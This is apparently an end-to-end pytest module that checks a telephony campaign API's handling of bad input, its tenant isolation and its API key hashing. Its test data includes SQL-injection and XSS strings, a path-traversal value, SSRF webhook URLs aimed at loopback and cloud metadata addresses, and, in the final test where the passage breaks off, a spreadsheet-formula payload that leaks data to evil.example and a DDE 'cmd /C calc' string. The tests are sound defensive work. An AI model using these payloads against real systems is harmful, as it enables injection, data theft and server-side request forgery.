"""Bad input against the running stack (issue 9, point 4; issue 14, point 5): every case is
a clear 4xx in the API's error shape, and nothing is stored — the account's campaign total,
its stop-list, the audio store and the phone-base store are the same after as before. Names
and comments full of SQL and HTML are kept verbatim and rendered escaped on the web page;
in CSV files they cannot run as formulas."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
import re
import struct
import time
from collections import Counter
from collections.abc import Iterator
from typing import Any

import httpx
import psycopg
import pytest
from nats.js.errors import NotFoundError

from tests.e2e.helpers import create, get
from tests.reliability.load import record
from tests.stack import Stack, wait_for
from zvonar_contracts.subjects import AUDIO_BUCKET, PHONE_BASES_BUCKET
from zvonar_runtime.jetstream import connect

pytestmark = [pytest.mark.e2e, pytest.mark.postgres]

TTS = {"kind": "tts", "text": "Здравствуйте! Это проверка."}
PHONES = ["+79161234560", "+79161234561"]
HOSTILE_NAME = "Robert'); DROP TABLE campaigns;-- <script>alert('x')</script> & \"q\""
HOSTILE_COMMENT = "<img src=x onerror=alert(1)> ' OR 1=1; -- </td></tr><b>жирно</b>"


@pytest.fixture(scope="module")
def client(api_stack: Stack) -> Iterator[httpx.Client]:
    with api_stack.new_account("Плохой ввод") as account:
        # One stored campaign and stop-listed number, so "unchanged" is not just "still empty".
        create(account, name="Существующая", phones=PHONES)
        assert account.post("/api/v1/stop-list", json={"phones": ["+79161110000"]}).is_success
        yield account


# Every refused request's status and error code, recorded in bad-input.json at the end.
REFUSED: Counter[str] = Counter()


@pytest.fixture(scope="module", autouse=True)
def record_refusals() -> Iterator[None]:
    yield
    record(
        "bad-input",
        {
            "refused_requests": sum(REFUSED.values()),
            "by_status_and_code": dict(sorted(REFUSED.items())),
        },
    )


def stored_objects(stack: Stack, bucket: str) -> set[str]:
    """The names of the objects in `bucket` (deleted ones left out)."""

    async def names() -> set[str]:
        nc = await connect(stack.nats_url, "bad-input-objects")
        try:
            store = await nc.jetstream().object_store(bucket)
            try:
                return {info.name for info in await store.list() if not info.deleted}
            except NotFoundError:
                return set()
        finally:
            await nc.close()

    return asyncio.run(names())


def audio_objects(stack: Stack) -> int:
    """Uploads kept in the audio bucket (`<account>/upload/...`); the messages the dialer
    stores meanwhile for the fixture's campaign are not uploads."""
    return sum("/upload/" in name for name in stored_objects(stack, AUDIO_BUCKET))


def snapshot(client: httpx.Client) -> tuple[Any, ...]:
    campaigns = client.get("/api/v1/campaigns", params={"per_page": 200})
    stop_list = client.get("/api/v1/stop-list", params={"per_page": 200})
    me = client.get("/api/v1/me")
    assert campaigns.status_code == stop_list.status_code == me.status_code == 200
    rows = sorted(
        (row["id"], row["name"], row["comment"]["user"]) for row in campaigns.json()["items"]
    )
    return (
        campaigns.json()["total"],
        rows,
        stop_list.json()["total"],
        stop_list.json()["phones"],
        me.json(),
    )


def assert_error(response: httpx.Response, *statuses: int) -> dict[str, Any]:
    """A clear error: one of `statuses`, in the API's shape, with a code and a message."""
    assert response.status_code in statuses, (response.status_code, response.text[:500])
    body = response.json()
    error = body["error"]
    assert re.fullmatch(r"[a-z][a-z0-9_]*", error["code"]), error
    assert isinstance(error["message"], str) and error["message"], error
    assert isinstance(error.get("details", []), list), error
    REFUSED[f"{response.status_code} {error['code']}"] += 1
    return dict(error)


class Unchanged:
    """Asserts on exit that the account looks exactly as it did on entry."""

    def __init__(self, stack: Stack, client: httpx.Client, *, audio: bool = False) -> None:
        self.stack, self.client, self.audio = stack, client, audio

    def __enter__(self) -> Unchanged:
        self.before = snapshot(self.client)
        self.audio_before = audio_objects(self.stack) if self.audio else 0
        self.bases_before = stored_objects(self.stack, PHONE_BASES_BUCKET)
        return self

    def __exit__(self, *exc: object) -> None:
        if exc[0] is None:
            assert snapshot(self.client) == self.before
            if self.audio:
                assert audio_objects(self.stack) == self.audio_before
            assert stored_objects(self.stack, PHONE_BASES_BUCKET) == self.bases_before


def post_base(client: httpx.Client, content: bytes, name: str = "base.csv") -> httpx.Response:
    return client.post(
        "/api/v1/campaigns",
        files={"phones_file": (name, content, "text/csv")},
        data={"campaign": '{"name": "Из файла", "audio": {"kind": "tts", "text": "Привет"}}'},
        timeout=120,
    )


def campaign(**fields: Any) -> dict[str, Any]:
    return {"phones": PHONES, "audio": TTS, **fields}


# --- phone bases -------------------------------------------------------------------------


def test_a_base_neither_utf8_nor_cp1251_is_refused(api_stack: Stack, client: httpx.Client) -> None:
    rng = random.Random(9)
    # 0x98 is the one byte cp1251 leaves undefined; the rest is random binary garbage.
    garbage = b"phone\n+7916\x98\xff\xfe" + rng.randbytes(4096) + b"\x98\x00\x01"
    with Unchanged(api_stack, client):
        assert_error(post_base(client, garbage), 400, 422)
        # Text in an encoding that is not UTF-8 and holds control bytes cp1251 would not.
        utf16 = "телефон\n+79161234567\n".encode("utf-16")
        assert_error(post_base(client, utf16), 400, 422)


def test_a_base_of_1_000_001_lines_is_refused(api_stack: Stack, client: httpx.Client) -> None:
    lines = "\n".join(f"+7916{n:07d}" for n in range(1_000_001)).encode()
    with Unchanged(api_stack, client):
        assert_error(post_base(client, lines), 413, 422)
        huge_list = campaign(phones=[f"+7916{n:07d}" for n in range(1_000_001)])
        assert_error(client.post("/api/v1/campaigns", json=huge_list, timeout=120), 413, 422)


# --- audio -------------------------------------------------------------------------------


def upload(client: httpx.Client, name: str, content: bytes, mime: str) -> httpx.Response:
    return client.post("/api/v1/audio", files={"file": (name, content, mime)})


def test_a_binary_file_named_wav_is_not_audio(api_stack: Stack, client: httpx.Client) -> None:
    rng = random.Random(10)
    with Unchanged(api_stack, client, audio=True):
        assert_error(upload(client, "message.wav", rng.randbytes(64 * 1024), "audio/wav"), 422)
        # A RIFF/WAVE header over nothing playable.
        riff = b"RIFF" + (36).to_bytes(4, "little") + b"WAVEfmt " + b"\x10\0\0\0" + b"\0" * 16
        assert_error(upload(client, "empty.wav", riff, "audio/wav"), 422)
        assert_error(upload(client, "zero.wav", b"", "audio/wav"), 400, 422)


def test_an_mp3_with_a_broken_header_is_not_audio(api_stack: Stack, client: httpx.Client) -> None:
    rng = random.Random(11)
    broken = [
        # Frame sync with the bitrate index 15 ("bad") and a reserved sample rate.
        b"\xff\xfb\xfc\x00" * 2000,
        # An ID3 tag whose size runs past the end of the file, then nothing.
        b"ID3\x04\x00\x00\x7f\x7f\x7f\x7f" + rng.randbytes(512),
        # An ID3 tag, then random bytes where the frames should be.
        b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\0" * 10 + rng.randbytes(8192),
        # MPEG version "reserved" (bits 01) in every frame header.
        b"\xff\xeb\x90\x00" * 2000,
    ]
    with Unchanged(api_stack, client, audio=True):
        for content in broken:
            assert_error(upload(client, "message.mp3", content, "audio/mpeg"), 422)


def a_wav(samples: bytes, claimed: int | None = None) -> bytes:
    """8 kHz 16-bit mono PCM whose data chunk says it holds `claimed` bytes (default: the
    truth)."""
    fmt = struct.pack("<HHIIHH", 1, 1, 8000, 16000, 2, 16)
    body = b"WAVEfmt " + struct.pack("<I", len(fmt)) + fmt
    body += b"data" + struct.pack("<I", len(samples) if claimed is None else claimed) + samples
    return b"RIFF" + struct.pack("<I", len(body)) + body


def lying_wav() -> bytes:
    """16 KB whose data chunk claims 0xFFFFFF00 bytes (issue 14: it was 201 with duration
    1.0, and a call playing it was billed 268,436 s)."""
    return a_wav(bytes(16_000), claimed=0xFFFFFF00)


def eleven_minutes_of_mp3() -> bytes:
    """Silent MPEG-2.5 Layer III frames at 8 kbit/s: 72 bytes play 72 ms, 660 KB play 11 min."""
    return (b"\xff\xe3\x18\xc0" + bytes(68)) * round(11 * 60 / 0.072)


def test_audio_that_lies_or_decodes_past_the_caps_is_422(
    api_stack: Stack, client: httpx.Client
) -> None:
    with Unchanged(api_stack, client, audio=True):
        assert_error(upload(client, "lying.wav", lying_wav(), "audio/wav"), 422)
        assert_error(upload(client, "long.mp3", eleven_minutes_of_mp3(), "audio/mpeg"), 422)


def test_another_accounts_file_id_is_refused_like_an_unknown_one(
    api_stack: Stack, client: httpx.Client
) -> None:
    other = api_stack.new_account("Чужие файлы")
    mine = upload(other, "theirs.wav", a_wav(bytes(16_000)), "audio/wav")
    assert mine.status_code == 201, mine.text
    with Unchanged(api_stack, client):
        borrowed = client.post(
            "/api/v1/campaigns",
            json=campaign(audio={"kind": "file", "file_id": mine.json()["file_id"]}),
        )
        unknown = client.post(
            "/api/v1/campaigns",
            json=campaign(audio={"kind": "file", "file_id": "upload/" + "0" * 32}),
        )
        assert assert_error(borrowed, 422) == assert_error(unknown, 422)


# --- JSON --------------------------------------------------------------------------------


def test_huge_json_is_413(api_stack: Stack, client: httpx.Client) -> None:
    body = (
        b'{"phones": ["+79161234567"], "audio": {"kind": "tts", "text": "'
        + b"a" * (49 * 1024 * 1024)
        + b'"}}'
    )
    with Unchanged(api_stack, client):
        response = client.post(
            "/api/v1/campaigns",
            content=body,
            headers={"content-type": "application/json"},
            timeout=120,
        )
        assert_error(response, 413)


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deeply_nested_json_is_400(api_stack: Stack, client: httpx.Client, depth: int) -> None:
    paths = [
        ("POST", "/api/v1/campaigns"),
        ("POST", "/api/v1/stop-list"),
        ("PATCH", "/api/v1/me"),
        ("POST", "/api/v1/campaigns/delete"),
    ]
    bodies = [
        b"[" * depth,  # unclosed: malformed
        b"[" * depth + b"]" * depth,  # well-formed but absurdly deep
        b'{"phones": ' + b"[" * depth + b"]" * depth + b', "audio": {"kind": "tts", "text": "x"}}',
        b'{"a":' * depth + b"1" + b"}" * depth,
    ]
    with Unchanged(api_stack, client):
        for method, path in paths:
            for body in bodies:
                response = client.request(
                    method, path, content=body, headers={"content-type": "application/json"}
                )
                assert_error(response, 400, 422)
    assert client.get("/api/v1/me").status_code == 200, "the gateway still answers"


# --- SQL and HTML ------------------------------------------------------------------------


def sign_in_on_the_page(stack: Stack, key: str) -> httpx.Client:
    page = httpx.Client(base_url=stack.base_url, timeout=30)
    form = page.get("/")
    assert form.status_code == 200
    token = re.search(r'name="_csrf"\s+value="([^"]+)"', form.text)
    assert token, form.text[:2000]
    signed = page.post("/sign-in", data={"api_key": key, "_csrf": token.group(1)})
    assert signed.status_code == 303, signed.text[:500]
    return page


def test_sql_and_html_are_stored_verbatim_and_rendered_escaped(api_stack: Stack) -> None:
    with api_stack.admin() as admin:
        made = admin.post("/api/v1/accounts", json={"name": HOSTILE_NAME, "timezone": "UTC"})
    assert made.status_code == 201, made.text
    key = made.json()["api_key"]
    with httpx.Client(
        base_url=api_stack.base_url, headers={"Authorization": f"Bearer {key}"}, timeout=30
    ) as owner:
        assert owner.get("/api/v1/me").json()["name"] == HOSTILE_NAME
        created = create(owner, name=HOSTILE_NAME, phones=PHONES, comment=HOSTILE_COMMENT)
        cid = created["id"]
        assert created["name"] == HOSTILE_NAME
        commented = owner.put(f"/api/v1/campaigns/{cid}/comment", json={"text": HOSTILE_COMMENT})
        assert commented.status_code == 200, commented.text
        detail = get(owner, cid)
        assert detail["name"] == HOSTILE_NAME
        assert detail["comment"]["user"] == HOSTILE_COMMENT
        found = owner.get("/api/v1/campaigns", params={"q": "DROP TABLE"}).json()
        assert [row["id"] for row in found["items"]] == [cid]
        injected = owner.get("/api/v1/campaigns", params={"q": "' OR 1=1 --"}).json()
        assert injected["total"] == 0
        assert owner.get("/api/v1/campaigns").json()["total"] == 1
    page = sign_in_on_the_page(api_stack, key)
    try:
        html = page.get("/").text
        table = page.get("/campaigns/table").text
    finally:
        page.close()
    for rendered in (html, table):
        assert "<script>alert(" not in rendered
        assert "<img src=x" not in rendered
        assert "<b>жирно</b>" not in rendered
    assert "&lt;script&gt;alert(" in html
    assert "DROP TABLE campaigns" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html


# --- dates, timezones, speeds, types -----------------------------------------------------


BAD_STARTS = (
    "2026-02-30T10:00:00+03:00",
    "2026-13-01T10:00:00+03:00",
    "2026-06-01T25:00:00+03:00",
    "2026-06-01T10:00:00+99:00",
    "завтра",
)
BAD_WINDOWS: tuple[dict[str, Any], ...] = (
    {"days": ["mon"], "from": "25:00", "to": "21:00", "tz": "account"},
    {"days": ["moonday"], "from": "09:00", "to": "21:00", "tz": "account"},
    {"days": ["mon"], "from": "09:00", "to": "21:00", "tz": "Mars/Olympus"},
)


def test_timezones_and_dates_that_do_not_exist(api_stack: Stack, client: httpx.Client) -> None:
    with Unchanged(api_stack, client):
        for zone in ("Mars/Olympus", "", "../../etc/passwd", "Europe/Moscow\x00", 42, None):
            assert_error(client.patch("/api/v1/me", json={"timezone": zone}), 422)
        with api_stack.admin() as admin:
            bad_account = admin.post(
                "/api/v1/accounts", json={"name": "x", "timezone": "Mars/Olympus"}
            )
        assert_error(bad_account, 422)
        for start_at in BAD_STARTS:
            response = client.post("/api/v1/campaigns", json=campaign(start_at=start_at))
            assert_error(response, 422)
        for window in BAD_WINDOWS:
            assert_error(client.post("/api/v1/campaigns", json=campaign(window=window)), 422)
        for created_from in ("2026-13-01", "2026-02-30", "вчера", "2026-06-01T10:00:00+99:00"):
            listed = client.get("/api/v1/campaigns", params={"created_from": created_from})
            assert_error(listed, 400, 422)
        listed = client.get("/api/v1/campaigns", params={"created_to": "2026-00-10"})
        assert_error(listed, 400, 422)


@pytest.mark.parametrize("speed", [-1, 0, 100_001, 10**30, -(10**30), 1.5, 1e308, "fast", True])
def test_negative_and_enormous_speeds(api_stack: Stack, client: httpx.Client, speed: Any) -> None:
    with Unchanged(api_stack, client):
        error = assert_error(client.post("/api/v1/campaigns", json=campaign(speed=speed)), 422)
        assert any("speed" in str(detail) for detail in error["details"]), error


# Whole bodies of the wrong type too: a list, a string, null.
WRONG_TYPES: list[dict[str, Any] | list[dict[str, Any]] | str | None] = [
    {"phones": "+79161234567", "audio": TTS},
    {"phones": [79161234567], "audio": TTS},
    {"phones": [["+79161234567"]], "audio": TTS},
    {"phones": {"0": "+79161234567"}, "audio": TTS},
    {"phones": [], "audio": TTS},
    {"phones": PHONES},
    {"phones": PHONES, "audio": "tts"},
    {"phones": PHONES, "audio": {"kind": "midi"}},
    {"phones": PHONES, "audio": {"kind": "file", "file_id": "upload/nope"}},
    campaign(smart={"parts": 9, "delay_minutes": 10}),
    campaign(smart={"parts": 0, "delay_minutes": 10}),
    campaign(smart={"parts": "два", "delay_minutes": 10}),
    campaign(smart={"parts": 2, "delay_minutes": -1}),
    campaign(smart={"parts": 2, "delay_minutes": 10081}),
    campaign(smart=9),
    campaign(name=["список"]),
    campaign(name="x" * 100_000),
    campaign(comment="x" * 1001),
    campaign(record="yes"),
    campaign(amd=1),
    campaign(routing={"kind": "caller_id", "number": "not a phone"}),
    campaign(routing={"kind": "teleport"}),
    campaign(ivr={"kind": "keys", "lead_keys": ["#!"]}),
    campaign(ivr={"kind": "words", "lead_words": "да"}),
    campaign(integration={"webhook_url": "javascript:alert(1)", "secret": "s"}),
    campaign(window={"days": "mon", "from": "09:00", "to": "21:00", "tz": "account"}),
    [campaign()],
    "a string",
    None,
]


def test_wrong_types_everywhere(api_stack: Stack, client: httpx.Client) -> None:
    with Unchanged(api_stack, client):
        for body in WRONG_TYPES:
            response = client.post("/api/v1/campaigns", json=body)
            error = assert_error(response, 400, 422)
            if isinstance(body, dict):
                assert response.status_code == 422, (body, response.text[:300])
                assert error["details"], (body, error)
        some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
        stop_list_bodies: list[Any] = [{"phones": "+79161234567"}, {"phones": [None]}, {}, [1]]
        for body in stop_list_bodies:
            assert_error(client.post("/api/v1/stop-list", json=body), 400, 422)
        assert_error(client.put(f"/api/v1/campaigns/{some_id}/comment", json={"text": 5}), 422)
        assert_error(
            client.put(f"/api/v1/campaigns/{some_id}/comment", json={"text": "x" * 1001}), 422
        )
        assert_error(client.post("/api/v1/campaigns/delete", json={"ids": "all"}), 422)
        assert_error(client.post("/api/v1/campaigns/delete", json={"ids": [10**30]}), 400, 422)
        assert_error(
            client.post("/api/v1/campaigns/export", json={"ids": [some_id], "format": "pdf"}), 422
        )
        for params in (
            {"page": 0},
            {"per_page": 201},
            {"page": "x"},
            {"status": "flying"},
            {"tag": "nope"},
            {"page": 10**30},
        ):
            assert_error(client.get("/api/v1/campaigns", params=params), 400, 422)
        assert_error(client.get("/api/v1/campaigns/abc"), 400, 404, 422)
        assert_error(client.get(f"/api/v1/campaigns/{10**30}"), 400, 404, 422)


# --- tenant isolation (issue 9, point 5) -------------------------------------------------


def owned_by_a(stack: Stack) -> tuple[httpx.Client, dict[str, str], list[int], str]:
    """Account A with a finished, recorded campaign (audio, report and recordings exist) and
    a scheduled one with smart parts and its own caller number (every action could change
    it); the values A's ids take in each path parameter."""
    a = stack.new_account("Владелец А")
    done = create(a, name="Записанная", phones=["+79161230000", "+79161230001"], record=True)
    waiting = create(
        a,
        name="Ждущая",
        phones=PHONES,
        start_at="2099-01-01T10:00:00+03:00",
        smart={"parts": 3, "delay_minutes": 60},
        routing={"kind": "caller_id", "number": "+79161239999"},
    )
    assert a.post("/api/v1/stop-list", json={"phones": ["+79161117777"]}).is_success

    def recorded() -> dict[str, Any] | None:
        report = a.get(f"/api/v1/campaigns/{done['id']}/report").json()
        urls = [c["recording_url"] for c in report["calls"] if c["recording_url"]]
        settled = get(a, waiting["id"])["status"] == "scheduled"  # moderated, not moving on
        return report if get(a, done["id"])["status"] == "finished" and urls and settled else None

    report = wait_for(recorded, 60, 0.3, "A's recorded campaign to finish, the other scheduled")
    recording = next(c["recording_url"] for c in report["calls"] if c["recording_url"])
    audio = a.get(f"/api/v1/campaigns/{done['id']}/audio").json()
    values = {
        "phone": "+79161117777",
        "name": audio[0]["url"].rstrip("/").rsplit("/", 1)[-1],
        "file_name": recording.rstrip("/").rsplit("/", 1)[-1],
    }
    return a, values, [done["id"], waiting["id"]], str(done["id"])


def a_state(a: httpx.Client, ids: list[int]) -> tuple[Any, ...]:
    details = [get(a, cid) for cid in ids]
    report = a.get(f"/api/v1/campaigns/{ids[0]}/report").json()
    return (*details, report, snapshot(a))


def fill(path: str, values: dict[str, str]) -> str:
    return re.sub(r"\{(\w+)\}", lambda m: values[m.group(1)], path)


BODIES: dict[str, Any] = {
    "comment": {"text": "чужой комментарий"},
    "reject": {"reason": "чужая причина"},
}


def test_another_account_gets_404_for_every_id_of_account_a(api_stack: Stack) -> None:
    a, values, ids, _ = owned_by_a(api_stack)
    schema = httpx.get(f"{api_stack.base_url}/schema/openapi.json").json()
    templated = [
        (method.upper(), path)
        for path, item in schema["paths"].items()
        if "{" in path
        for method in item
        if method in {"get", "post", "put", "patch", "delete"}
    ]
    assert len(templated) >= 15, templated  # the schema names every id-taking endpoint
    before = a_state(a, ids)
    with api_stack.new_account("Чужой Б") as b:
        answers: list[tuple[str, int]] = []
        for cid in ids:
            for method, path in templated:
                url = fill(path, {**values, "campaign_id": str(cid)})
                body = BODIES.get(path.rsplit("/", 1)[-1])
                answer = b.request(method, url, json=body)
                answers.append((f"{method} {url}", answer.status_code))
                if "{phone}" in path:
                    # A phone is no id of A's: B's stop-list is B's own, and removing a number
                    # it does not hold touches nobody else's (A's list is compared below).
                    assert answer.status_code in (200, 404), (url, answer.text[:300])
                    assert b.get("/api/v1/stop-list").json()["total"] == 0
                    continue
                if path.startswith("/api/v1/moderation/"):
                    # Moderators' endpoints: a customer's key is no moderator's, whoever's id.
                    assert_error(answer, 401)
                    continue
                assert answer.status_code == 404, (method, url, answer.text[:300])
                assert answer.json()["error"]["code"] == "not_found"
        # Ids in the body: nothing of A's deleted, nothing of A's exported.
        deleted = b.post("/api/v1/campaigns/delete", json={"ids": ids})
        assert deleted.status_code == 200 and deleted.json()["deleted"] == []
        exported = b.post("/api/v1/campaigns/export", json={"ids": ids, "format": "csv"})
        assert all(str(cid) not in exported.text for cid in ids)
        assert "Записанная" not in exported.text
        assert b.get("/api/v1/campaigns").json()["total"] == 0
        assert b.get("/api/v1/campaigns", params={"q": str(ids[0])}).json()["total"] == 0
    assert a_state(a, ids) == before
    record("isolation", {"id_endpoints": len(templated), "requests_as_b": len(answers)})
    a.close()


def test_api_keys_are_stored_hashed(api_stack: Stack) -> None:
    with api_stack.admin() as admin:
        made = admin.post("/api/v1/accounts", json={"name": "Хэш", "timezone": "UTC"}).json()
    key = made["api_key"]
    assert api_stack.database_url
    with psycopg.connect(api_stack.database_url) as db:
        tables = [
            row[0]
            for row in db.execute(
                "SELECT table_name FROM information_schema.tables WHERE table_schema = 'gateway'"
            )
        ]
        assert "accounts" in tables
        stored = db.execute(
            "SELECT key_hash FROM gateway.accounts WHERE id = %s", (made["id"],)
        ).fetchone()
        assert stored is not None and stored[0] and key not in stored[0]
        for table in tables:  # the key is nowhere in the gateway's store, in any column
            rows = db.execute(f'SELECT t::text FROM gateway."{table}" AS t').fetchall()
            assert not any(key in row[0] for row in rows), table


def test_a_rotated_out_key_stops_working_at_once(api_stack: Stack) -> None:
    with api_stack.new_account("Ротация") as old:
        cid = create(old, name="До ротации", phones=PHONES)["id"]
        rotated = old.post("/api/v1/me/keys/rotate")
        assert rotated.status_code == 200, rotated.text
        new_key = rotated.json()["api_key"]
        # At once: the very next request with the old key is refused, on every kind of call.
        for method, path in [
            ("GET", "/api/v1/me"),
            ("GET", "/api/v1/campaigns"),
            ("GET", f"/api/v1/campaigns/{cid}"),
            ("POST", f"/api/v1/campaigns/{cid}/pause"),
            ("POST", "/api/v1/me/keys/rotate"),
        ]:
            assert_error(old.request(method, path), 401)
        with httpx.Client(
            base_url=api_stack.base_url, headers={"Authorization": f"Bearer {new_key}"}
        ) as new:
            assert new.get("/api/v1/me").status_code == 200
            assert get(new, cid)["status"] != "paused", "the old key's pause did nothing"
    page = httpx.Client(base_url=api_stack.base_url, timeout=30)
    try:
        form = page.get("/")
        token = re.search(r'name="_csrf"\s+value="([^"]+)"', form.text)
        assert token
        old_key = old.headers["Authorization"].removeprefix("Bearer ")
        refused = page.post("/sign-in", data={"api_key": old_key, "_csrf": token.group(1)})
        assert refused.status_code == 401
    finally:
        page.close()


# --- characters a database cannot hold ---------------------------------------------------

ODD_TEXTS = ("нуль\x00байт", "одинокий \ud800 суррогат", "\u202eперевёрнуто", "🙂" * 50)


def test_characters_postgresql_cannot_store_are_refused_or_kept(
    api_stack: Stack, client: httpx.Client
) -> None:
    """NUL and lone surrogates cannot be stored in PostgreSQL text: they are either refused
    with a 4xx up front or kept verbatim — never a 5xx, never a poisoned projection that
    stops later campaigns from showing up."""
    for text in ODD_TEXTS:
        body = msgspec_json(campaign(name=text, comment=text))
        answer = client.post(
            "/api/v1/campaigns", content=body, headers={"content-type": "application/json"}
        )
        assert answer.status_code in (201, 400, 422), (text, answer.text[:300])
        if answer.status_code == 201:
            assert get(client, answer.json()["id"])["name"] == text
        else:
            assert_error(answer, 400, 422)
        zone = client.patch(
            "/api/v1/me",
            content=msgspec_json({"timezone": text}),
            headers={"content-type": "application/json"},
        )
        assert_error(zone, 400, 422)
        query = text.encode("utf-8", "surrogatepass")  # a lone surrogate as raw bytes
        listed = client.get("/api/v1/campaigns", params={"q": query})
        assert listed.status_code in (200, 400, 422), listed.text[:300]
    some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
    nul = msgspec_json({"text": "нуль\x00байт"})
    commented = client.put(
        f"/api/v1/campaigns/{some_id}/comment",
        content=nul,
        headers={"content-type": "application/json"},
    )
    assert_error(commented, 422)
    with api_stack.admin() as admin:
        named = admin.post(
            "/api/v1/accounts",
            content=msgspec_json({"name": "a\x00b"}),
            headers={"content-type": "application/json"},
        )
        assert_error(named, 422)
        reason = msgspec_json({"reason": "нуль\x00байт"})
        rejected = admin.post(
            f"/api/v1/moderation/{some_id}/reject",
            content=reason,
            headers={"content-type": "application/json"},
        )
        assert_error(rejected, 404, 409, 422)
    key = client.headers["Authorization"].removeprefix("Bearer ")
    page = sign_in_on_the_page(api_stack, key)
    try:
        token = re.search(r'name="csrf-token" content="([^"]+)"', page.get("/").text)
        assert token
        on_page = page.post(
            f"/campaigns/{some_id}/do/comment",
            data={"text": "нуль\x00байт", "_csrf": token.group(1)},
        )
        assert on_page.status_code == 422, on_page.text[:300]
    finally:
        page.close()
    assert get(client, some_id)["comment"]["user"] != "нуль\x00байт"
    after = create(client, name="После странных символов", phones=PHONES)
    assert get(client, after["id"])["name"] == "После странных символов"
    rows = client.get("/api/v1/campaigns", params={"q": "странных"}).json()["items"]
    assert [row["id"] for row in rows] == [after["id"]]


def msgspec_json(value: Any) -> bytes:
    """JSON with lone surrogates escaped as \\udXXX (the stdlib writes them; httpx's json=
    would fail to encode them to UTF-8)."""
    return json.dumps(value, ensure_ascii=True).encode()


# --- issue 14, point 5: SSRF, text that is not UTF-8, search, oversize fields, CSV ----------


def test_a_webhook_on_a_private_address_is_422(api_stack: Stack, client: httpx.Client) -> None:
    """The stack runs without ZVONAR_WEBHOOK_ALLOW_PRIVATE: only public targets."""
    port = api_stack.http_port  # a real listener on loopback: the gateway itself
    urls = [
        f"http://127.0.0.1:{port}/api/v1/me",
        f"http://localhost:{port}/",
        "http://169.254.169.254/latest/meta-data/",
        "http://10.0.0.5/hook",
        "http://[::1]/hook",
        "http://0x7f000001/hook",
    ]
    with Unchanged(api_stack, client):
        for url in urls:
            body = campaign(integration={"webhook_url": url, "secret": "s"})
            error = assert_error(client.post("/api/v1/campaigns", json=body), 422)
            assert [d["field"] for d in error["details"]] == ["integration.webhook_url"], url


NOT_UTF8_BODIES: list[tuple[str, str, bytes]] = [
    (
        "POST",
        "/api/v1/campaigns",
        b'{"phones": ["+79161234567"], "audio": {"kind": "tts", "text": "\xff\xfe"}}',
    ),
    ("POST", "/api/v1/stop-list", b'{"phones": ["+7916\xc3"]}'),
    ("PATCH", "/api/v1/me", b'{"timezone": "Europe/\xd0"}'),
    ("POST", "/api/v1/campaigns/delete", b'{"ids": [1], "\xff": 1}'),
    ("POST", "/api/v1/campaigns/export", b'{"ids": [1], "format": "\xe2\x82"}'),
]


def test_text_that_is_not_utf8_is_400_everywhere(api_stack: Stack, client: httpx.Client) -> None:
    some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
    bodies = [
        *NOT_UTF8_BODIES,
        ("PUT", f"/api/v1/campaigns/{some_id}/comment", b'{"text": "\xed\xa0\x80"}'),
    ]
    form = (
        b'--B\r\ncontent-disposition: form-data; name="campaign"\r\n\r\n'
        b'{"audio": {"kind": "tts", "text": "\xff"}}\r\n'
        b'--B\r\ncontent-disposition: form-data; name="phones_file"; filename="b.csv"\r\n'
        b"\r\n+79161234567\r\n--B--\r\n"
    )
    with Unchanged(api_stack, client):
        for method, path, body in bodies:
            answer = client.request(
                method, path, content=body, headers={"content-type": "application/json"}
            )
            assert assert_error(answer, 400)["code"] == "invalid_utf8", path
        answer = client.post(
            "/api/v1/campaigns",
            content=form,
            headers={"content-type": "multipart/form-data; boundary=B"},
        )
        assert assert_error(answer, 400)["code"] == "invalid_utf8"
        key = client.headers["Authorization"].removeprefix("Bearer ")
        page = sign_in_on_the_page(api_stack, key)
        try:
            token = re.search(r'name="csrf-token" content="([^"]+)"', page.get("/").text)
            assert token
            on_page = page.post(
                f"/campaigns/{some_id}/do/comment",
                content=b"text=%FF%FE&_csrf=" + token.group(1).encode(),
                headers={"content-type": "application/x-www-form-urlencoded"},
            )
            assert on_page.status_code == 400, on_page.text[:300]
            multipart_form = (
                b'--B\r\ncontent-disposition: form-data; name="text"\r\n\r\n\xff\xfe\r\n'
                b'--B\r\ncontent-disposition: form-data; name="_csrf"\r\n\r\n'
                + token.group(1).encode()
                + b"\r\n--B--\r\n"
            )
            on_page = page.post(
                f"/campaigns/{some_id}/do/comment",
                content=multipart_form,
                headers={"content-type": "multipart/form-data; boundary=B"},
            )
            assert on_page.status_code == 400, on_page.text[:300]
        finally:
            page.close()


def test_a_search_of_any_text_is_answered_at_once(api_stack: Stack, client: httpx.Client) -> None:
    some_id = client.get("/api/v1/campaigns").json()["items"][0]["id"]
    for text in ("²", "9" * 30, "9" * 199, "١٢٣", f"²{some_id}", str(2**63), "%", "_"):
        started = time.monotonic()
        answer = client.get("/api/v1/campaigns", params={"q": text})
        assert answer.status_code == 200, (text, answer.status_code, answer.text[:300])
        assert time.monotonic() - started < 3, text
        assert answer.json()["total"] == 0, text
    found = client.get("/api/v1/campaigns", params={"q": str(some_id)}).json()
    assert [row["id"] for row in found["items"]] == [some_id]


def test_a_field_of_1_5_mb_is_422_and_no_phone_base_is_left(
    api_stack: Stack, client: httpx.Client
) -> None:
    huge = "x" * 1_500_000
    phones = [f"+7916777{n:04d}" for n in range(50)]  # a base stored nowhere yet
    bodies = [
        campaign(
            phones=phones, integration={"webhook_url": "https://93.184.215.14/h", "secret": huge}
        ),
        campaign(
            phones=phones,
            integration={"webhook_url": f"https://93.184.215.14/{huge}", "secret": "s"},
        ),
        campaign(phones=phones, ivr={"kind": "words", "lead_words": [huge]}),
        campaign(phones=phones, name=huge),
        campaign(phones=phones, comment=huge),
    ]
    with Unchanged(api_stack, client):
        for body in bodies:
            assert_error(client.post("/api/v1/campaigns", json=body, timeout=60), 422)
        answer = client.post(
            "/api/v1/campaigns",
            files={"phones_file": ("base.csv", "\n".join(phones).encode(), "text/csv")},
            data={
                "campaign": json.dumps(
                    {
                        "audio": TTS,
                        "integration": {"webhook_url": "https://93.184.215.14/h", "secret": huge},
                    }
                )
            },
            timeout=60,
        )
        assert_error(answer, 422)
    assert client.get("/api/v1/me").status_code == 200, "the gateway still answers"


def test_csv_files_cannot_run_formulas(api_stack: Stack, client: httpx.Client) -> None:
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    made = create(
        client, name=formula, phones=["+79161234569"], comment="@SUM(1+1)*cmd|' /C calc'!A0"
    )
